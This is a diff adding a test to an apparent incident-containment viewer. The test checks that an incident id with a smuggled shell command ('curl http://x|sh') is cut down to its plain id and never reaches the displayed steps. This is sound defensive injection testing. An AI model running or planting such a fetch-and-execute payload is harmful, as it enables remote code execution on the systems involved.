@@ -50,6 +50,13 @@ def test_contained_when_everything_says_so(tmp_path: Path) -> None:
     assert (shown.verdict, shown.not_contained) == (Verdict.CONTAINED, ())
 
 
+def test_no_command_has_an_id_that_somebody_put_into_a_file(tmp_path: Path) -> None:
+    planted = INCIDENT | {"id": "INC-1; curl http://x|sh"}
+    shown = view(_folder(tmp_path, incident=planted, containment=CONTAINED))
+    assert shown.incident == "INC-1"
+    assert "curl" not in str(shown.steps)
+
+
 WORSE: dict[str, dict[str, Any]] = {
     "failed effect": {"containment": CONTAINED | {"effects": [EFFECT | {"outcome": "failed"}]}},
     "effect of no known outcome": {"containment": CONTAINED | {"effects": [EFFECT | {"outcome": "maybe"}]}},
